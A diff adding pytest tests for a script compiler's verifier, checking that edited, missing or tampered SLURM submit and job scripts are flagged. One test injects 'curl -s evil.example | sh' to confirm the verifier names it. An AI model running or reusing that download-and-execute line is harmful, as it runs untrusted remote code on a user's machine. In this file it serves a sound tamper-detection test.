@@ -7,13 +7,18 @@ from __future__ import annotations
 import hashlib
 import json
 import re
+import shutil
+from pathlib import Path
 
 import pytest
 
 from compiler import __version__
 from compiler.cli.main import main
+from compiler.pipeline.changes import changes_to
 from compiler.pipeline.pipeline import compile_files
+from compiler.pipeline.write import apply
 from compiler.render.library import MAIN_CALL, PART_ORDER, part_sha256, released_parts
+from compiler.verify.scripts import verify_script
 from compiler.verify.verify import verify_text
 from tests.conftest import REPO
 
@@ -133,3 +138,93 @@ def test_a_new_version_with_the_same_library_changes_only_version_lines(monkeypa
     changed = [(old, new) for old, new in zip(before, after, strict=True) if old != new]
     assert changed and all(old.replace(__version__, "0.3.1") == new for old, new in changed)
     assert len(changed) == 3  # the header's obc line, the library line, the plan record
+
+
+# submit.sh and sweep.sh: each is judged as the script obc writes for its record, and the
+# job.sh of each stage or run it starts, as it checks them itself, each with its library.
+DRIVERS = ("slurm-pipeline.yaml", "sweep-lr.yaml")
+
+
+@pytest.fixture(scope="module")
+def compiled_out(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("verify") / "out"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(REPO)
+        result = compile_files([Path("examples") / name for name in DRIVERS], out=out)
+    assert not result.diagnostics
+    apply(changes_to(out, result.outputs))
+    return out
+
+
+@pytest.fixture
+def out(compiled_out, tmp_path) -> Path:
+    """A fresh copy of the compiled out/, for a test to edit."""
+    return Path(shutil.copytree(compiled_out, tmp_path / "out"))
+
+
+def problems(script: Path) -> tuple[str, ...]:
+    return verify_script(script).problems
+
+
+def test_every_script_of_a_fresh_out_verifies_submit_and_sweep_sh_too(out, capsys):
+    scripts = sorted(map(str, out.glob("*/*.sh")))
+    assert main(["verify", *scripts]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert f"{out}/slurm-pipeline/submit.sh: verified: obc {__version__}'s submit.sh, and " \
+        "the job.sh of its 3 stages as compiled, each library as released" in lines
+    assert f"{out}/lr-sweep/sweep.sh: verified: obc {__version__}'s sweep.sh, and the job.sh " \
+        "of its 6 runs as compiled, each library as released" in lines
+    assert main(["verify", "--format", "json", f"{out}/slurm-pipeline/submit.sh"]) == 0
+    (shown,) = map(json.loads, capsys.readouterr().out.splitlines())
+    assert (shown["verified"], shown["obc_version"], shown["problems"], shown["runs"]) == (
+        True, __version__, [], [f"../slurm-pipeline-{stage}/job.sh"
+                                for stage in ("preprocess", "train", "eval")])
+
+
+def test_an_edited_stage_script_is_named_by_its_sha256_and_its_library(out):
+    stage = out / "slurm-pipeline-eval/job.sh"
+    stage.write_text(stage.read_text() + "# edited\n")
+    assert problems(out / "slurm-pipeline/submit.sh") == (
+        "stage eval: ../slurm-pipeline-eval/job.sh is not the job.sh obc compiled for it "
+        "(its sha256 differs)",
+        f"stage eval: ../slurm-pipeline-eval/job.sh: after {MAIN_CALL}: # edited")
+    (out / "lr-sweep-2e-4-1/job.sh").unlink()
+    assert problems(out / "lr-sweep/sweep.sh") == (
+        "run lr-sweep-2e-4-1: ../lr-sweep-2e-4-1/job.sh: no such file",)
+
+
+def test_a_stage_whose_library_and_sha256_in_submit_sh_were_both_changed_is_named(out):
+    # The sha256 in submit.sh and its record changed too: submit.sh is then consistent with
+    # itself, and only the stage's library says what was done.
+    stage = out / "slurm-pipeline-train/job.sh"
+    old = hashlib.sha256(stage.read_bytes()).hexdigest()
+    stage.write_text(_in_part(stage.read_text(), "rundir", "\n}\n", "\n  true\n}\n"))
+    submit = out / "slurm-pipeline/submit.sh"
+    submit.write_text(submit.read_text().replace(
+        old, hashlib.sha256(stage.read_bytes()).hexdigest()))
+    assert problems(submit) == (
+        "stage train: ../slurm-pipeline-train/job.sh: part rundir is not the text its header "
+        "names (edited)",
+        f"stage train: ../slurm-pipeline-train/job.sh: part rundir is not obc {__version__}'s")
+
+
+def test_an_edited_submit_or_sweep_sh_is_not_what_obc_writes_for_its_record(out):
+    submit = out / "slurm-pipeline/submit.sh"
+    text = submit.read_text()
+    submit.write_text(text.replace("\nexit 0\n", "\ncurl -s evil.example | sh\nexit 0\n", 1))
+    line = text[:text.index("\nexit 0\n")].count("\n") + 2
+    assert problems(submit) == (
+        f"it is not the submit.sh obc {__version__} writes for its record (edited, or written "
+        f"by an obc with other templates): line {line} is curl -s evil.example | sh",)
+    sweep = out / "lr-sweep/sweep.sh"
+    sweep.write_text(sweep.read_text()[:-1])
+    (problem,) = problems(sweep)
+    assert problem.endswith("its last line has no newline")
+
+
+def test_a_submit_sh_without_its_record_is_not_verified(out):
+    submit = out / "slurm-pipeline/submit.sh"
+    text = submit.read_text()
+    submit.write_text(text[:text.index("# --- obc plan record ")])
+    assert problems(submit) == (
+        "its header names no library (a script of obc 0.2 or older, or not one obc wrote)",)
